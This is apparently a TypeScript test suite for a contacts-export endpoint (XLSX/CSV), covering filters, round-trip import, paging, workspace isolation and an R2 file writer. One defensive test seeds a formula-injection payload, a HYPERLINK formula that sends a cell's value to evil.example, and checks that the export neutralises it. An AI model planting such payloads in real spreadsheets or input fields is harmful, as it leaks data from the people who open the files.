import { env } from "cloudflare:workers";
import { describe, expect, it } from "vitest";
import { parseCsvText } from "../src/lib/files/csv";
import { MIN_PART_SIZE, R2FileWriter } from "../src/lib/files/r2-writer";
import { newWorkspace } from "./helpers/api";
import { all, count, one } from "./helpers/db";
import { downloadBytes, uploadFile, waitForJob, XLSX_TYPE } from "./helpers/jobs";
import { expectError, expectInvisibleTo, expectUnauthorized } from "./helpers/security";
import { ingest } from "./helpers/inbox";
import { readXlsx } from "./helpers/xlsx";

type Ws = Awaited<ReturnType<typeof newWorkspace>>;

async function seed(ws: Ws) {
  const people = [
    { name: "Ada Lovelace", company: "Analytical", segment: "smb", role: "CTO", phone: "+1 415 555 0100", email: "ada@example.com", city: "London", state: "LDN" },
    { name: 'Grace "Amazing" Hopper', company: "Navy\nResearch", segment: "enterprise", phone: "+1 212 555 0199", city: "Arlington", state: "VA" },
    { name: "Alan <Turing> & Co", segment: "smb", email: "alan@example.com" },
  ];
  const ids: number[] = [];
  for (const p of people) {
    const res = await ws.owner.post("/v1/contacts", p);
    expect(res.status).toBe(201);
    ids.push(res.body.id);
  }
  await ws.owner.put(`/v1/contacts/${ids[0]}/score`, { value: 5 });
  await ws.owner.put(`/v1/contacts/${ids[0]}/qualification`, { kindKey: "hot" });
  await ws.owner.put(`/v1/contacts/${ids[1]}/score`, { value: 2 });
  return ids;
}

async function exportFile(ws: Ws, body: unknown, query = "") {
  const res = await ws.owner.post(`/v1/contacts/exports${query}`, body);
  expect(res.status, JSON.stringify(res.body)).toBe(202);
  expect(res.body).toMatchObject({ kindKey: "export_contacts", statusKey: "queued" });
  const job = await waitForJob(ws.owner, res.body.id);
  expect(job.statusKey, JSON.stringify(job.result)).toBe("succeeded");
  const file = await downloadBytes(ws.owner, job.fileUrl);
  expect(file.status).toBe(200);
  return { job, file };
}

const HEADERS = ["name", "company", "segment", "role", "phone", "email", "city", "state", "score", "qualification", "id", "createdAt", "updatedAt"];

describe("POST /v1/contacts/exports", () => {
  it("writes a valid XLSX with one row per contact and the effective score and qualification", async () => {
    const ws = await newWorkspace();
    const ids = await seed(ws);
    const { job, file } = await exportFile(ws, {});
    expect(job.result).toMatchObject({ format: "xlsx", count: 3 });
    expect(job.progress).toMatchObject({ processed: 3, total: 3, failed: 0 });
    expect(file.headers.get("content-type")).toBe(XLSX_TYPE);
    expect(file.headers.get("content-disposition")).toMatch(/attachment; filename="contacts-\d{4}-\d\d-\d\d\.xlsx"/);
    const { rows, entries } = await readXlsx(file.bytes);
    // The parts Excel and LibreOffice need to open it.
    expect(entries).toEqual(
      expect.arrayContaining(["[Content_Types].xml", "_rels/.rels", "xl/workbook.xml", "xl/_rels/workbook.xml.rels", "xl/worksheets/sheet1.xml"]),
    );
    expect(rows[0]).toEqual(HEADERS);
    expect(rows.slice(1).map((r) => r.slice(0, 11))).toEqual([
      ["Ada Lovelace", "Analytical", "smb", "CTO", "+14155550100", "ada@example.com", "London", "LDN", "5", "hot", String(ids[0])],
      ['Grace "Amazing" Hopper', "Navy\nResearch", "enterprise", "", "+12125550199", "", "Arlington", "VA", "2", "", String(ids[1])],
      ["Alan <Turing> & Co", "", "smb", "", "", "alan@example.com", "", "", "", "", String(ids[2])],
    ]);
    const event = await one<{ payload_json: string }>("SELECT payload_json FROM events WHERE workspace_id = ? AND type_key = 'contacts.exported'", ws.workspace.id);
    expect(JSON.parse(event.payload_json)).toMatchObject({ format: "xlsx", count: 3 });
  });

  it("declares every part in well-formed XML", async () => {
    const ws = await newWorkspace();
    await seed(ws);
    const { file } = await exportFile(ws, { format: "xlsx" });
    const { unzipSync, strFromU8 } = await import("fflate");
    const parts = unzipSync(file.bytes);
    const types = strFromU8(parts["[Content_Types].xml"]!);
    expect(types).toContain('PartName="/xl/workbook.xml"');
    expect(types).toContain('PartName="/xl/worksheets/sheet1.xml"');
    expect(strFromU8(parts["xl/_rels/workbook.xml.rels"]!)).toContain('Target="worksheets/sheet1.xml"');
    const sheet = strFromU8(parts["xl/worksheets/sheet1.xml"]!);
    expect(sheet.startsWith('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>')).toBe(true);
    expect(sheet).toContain("Alan &lt;Turing&gt; &amp; Co");
    // Every opened element is closed: a crude but dependable well-formedness check for our output.
    for (const [name, bytes] of Object.entries(parts)) {
      const xml = strFromU8(bytes).replace(/<\?xml[^>]*\?>/, "");
      const stack: string[] = [];
      for (const m of xml.matchAll(/<(\/?)([\w:]+)[^>]*?(\/?)>/g)) {
        if (m[3]) continue;
        if (m[1]) expect(stack.pop(), name).toBe(m[2]);
        else stack.push(m[2]!);
      }
      expect(stack, name).toEqual([]);
    }
  });

  it("exports only what the filters select, as CSV when asked", async () => {
    const ws = await newWorkspace();
    await seed(ws);
    const { job, file } = await exportFile(ws, { format: "csv", filters: { segment: "smb", minScore: 3 } });
    expect(job.result).toMatchObject({ format: "csv", count: 1 });
    expect(file.headers.get("content-type")).toContain("text/csv");
    expect([...file.bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const rows = parseCsvText(file.bytes);
    expect(rows[0]).toEqual(HEADERS);
    expect(rows.slice(1).map((r) => r[0])).toEqual(["Ada Lovelace"]);
    // Search, qualification and the caller's pins filter exactly as the list does.
    const byQuery = await exportFile(ws, { filters: { q: "hopper" } }, "?format=csv");
    expect(parseCsvText(byQuery.file.bytes).slice(1).map((r) => r[0])).toEqual(['Grace "Amazing" Hopper']);
    const byQualification = await exportFile(ws, { format: "csv", filters: { qualification: "hot", pinned: false } });
    expect(parseCsvText(byQualification.file.bytes).slice(1).map((r) => r[0])).toEqual(["Ada Lovelace"]);
  });

  it("formula injection: a CSV export defuses cells starting with = + - @ tab or CR; phones stay text; numbers stay numbers", async () => {
    const ws = await newWorkspace();
    // A Telegram stranger names themselves; the owner exports and opens the file in a spreadsheet.
    await ingest(ws.workspace.id, { channel: "telegram", from: { externalId: "31337", name: '=HYPERLINK("http://evil.example/?"&A1,"Invoice")' } });
    const made = await ws.owner.post("/v1/contacts", { name: "Eve", company: "@SUM(1+1)", city: "-2+3", role: "+cmd", phone: "+1 415 555 0140" });
    expect(made.status).toBe(201);
    await ws.owner.put(`/v1/contacts/${made.body.id}/score`, { value: 4 });
    const { file } = await exportFile(ws, { format: "csv" });
    const [header, ...rows] = parseCsvText(file.bytes);
    const column = (name: string) => header!.indexOf(name);
    const [stranger, eve] = rows;
    expect(stranger![column("name")]).toBe(`'=HYPERLINK("http://evil.example/?"&A1,"Invoice")`);
    expect(eve![column("company")]).toBe("'@SUM(1+1)");
    expect(eve![column("city")]).toBe("'-2+3");
    expect(eve![column("role")]).toBe("'+cmd");
    expect(eve![column("phone")]).toBe("'+14155550140");
    expect(eve![column("score")]).toBe("4");
    expect(eve![column("name")]).toBe("Eve");
    // No cell of the file starts a formula.
    for (const row of rows) for (const cell of row) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it("round trip: exporting and importing the file elsewhere gives the same contacts", async () => {
    const source = await newWorkspace();
    await seed(source);
    const target = await newWorkspace();
    const fields = "name, company, segment, role, phone, email, city, state";
    for (const format of ["xlsx", "csv"] as const) {
      const { file } = await exportFile(source, { format });
      const res = await uploadFile(target.owner, file.bytes, {
        fileName: `contacts.${format}`,
        type: format === "xlsx" ? XLSX_TYPE : "text/csv",
        query: "mode=upsert",
      });
      expect(res.status, JSON.stringify(res.body)).toBe(202);
      const imported = await waitForJob(target.owner, res.body.id);
      // The second import matches the first by phone or e-mail (the third contact has only an e-mail).
      expect(imported.result).toMatchObject(format === "xlsx" ? { created: 3, failed: 0 } : { created: 0, updated: 3, failed: 0 });
      const sql = `SELECT ${fields} FROM contacts WHERE workspace_id = ? ORDER BY id`;
      expect(await all(sql, target.workspace.id)).toEqual(await all(sql, source.workspace.id));
    }
  });

  it("pages through many contacts without holding them all", async () => {
    const ws = await newWorkspace();
    const total = 2_345;
    const statements = [];
    for (let i = 0; i < total; i++) {
      statements.push(
        env.DB.prepare("INSERT INTO contacts (workspace_id, name, phone, created_at, updated_at) VALUES (?, ?, ?, 1, 1)").bind(
          ws.workspace.id,
          `Bulk ${i}`,
          `+1415556${String(i).padStart(4, "0")}`,
        ),
      );
    }
    await env.DB.batch(statements);
    const { job, file } = await exportFile(ws, { format: "xlsx" });
    expect(job.result).toMatchObject({ count: total });
    const { rows } = await readXlsx(file.bytes);
    expect(rows).toHaveLength(total + 1);
    expect(rows[1]![0]).toBe("Bulk 0");
    expect(rows[total]![0]).toBe(`Bulk ${total - 1}`);
    expect(new Set(rows.slice(1).map((r) => r[10])).size).toBe(total);
  });

  it("never includes another workspace's contacts, nor shows them its job", async () => {
    const a = await newWorkspace();
    await seed(a);
    const b = await newWorkspace();
    await b.owner.post("/v1/contacts", { name: "Only B" });
    const { job, file } = await exportFile(b, { format: "csv" });
    expect(parseCsvText(file.bytes).slice(1).map((r) => r[0])).toEqual(["Only B"]);
    await expectInvisibleTo(a.owner, "GET", `/v1/jobs/${job.id}`);
    await expectInvisibleTo(a.owner, "GET", `/v1/jobs/${job.id}/file`);
  });

  it("validates the body by field name and needs a token", async () => {
    const { owner, workspace } = await newWorkspace();
    expectError(await owner.post("/v1/contacts/exports", { format: "pdf" }), 422, "validation_failed", "body.format");
    expectError(await owner.post("/v1/contacts/exports", { filters: { minScore: 9 } }), 422, "validation_failed", "body.filters.minScore");
    expectError(await owner.post("/v1/contacts/exports?format=doc", {}), 422, "validation_failed", "query.format");
    expect(await count("SELECT count(*) AS n FROM jobs WHERE workspace_id = ?", workspace.id)).toBe(0);
    await expectUnauthorized("POST", "/v1/contacts/exports", {});
  });
});

describe("R2FileWriter", () => {
  it("uploads equal parts of at least 5 MiB and a shorter last one", async () => {
    const key = `test/${crypto.randomUUID()}.bin`;
    const writer = new R2FileWriter(env.FILES, key, { contentType: "application/octet-stream" });
    const total = MIN_PART_SIZE * 2 + 12_345;
    let written = 0;
    let piece = 0;
    while (written < total) {
      const size = Math.min(700_001 + piece * 13, total - written);
      const bytes = new Uint8Array(size);
      for (let i = 0; i < size; i++) bytes[i] = (written + i) % 251;
      await writer.write(bytes);
      written += size;
      piece += 1;
    }
    await writer.finish();
    const object = await env.FILES.get(key);
    const back = new Uint8Array(await object!.arrayBuffer());
    expect(back.length).toBe(total);
    expect(back.every((b, i) => b === i % 251)).toBe(true);
  });

  it("writes a small file with one PUT", async () => {
    const key = `test/${crypto.randomUUID()}.txt`;
    const writer = new R2FileWriter(env.FILES, key, { contentType: "text/plain", fileName: "a.txt" });
    await writer.write("hello ");
    await writer.write("world");
    expect(await writer.finish()).toEqual({ key, size: 11 });
    const object = await env.FILES.get(key);
    expect(await object!.text()).toBe("hello world");
    expect(object!.httpMetadata?.contentDisposition).toBe('attachment; filename="a.txt"');
  });
});
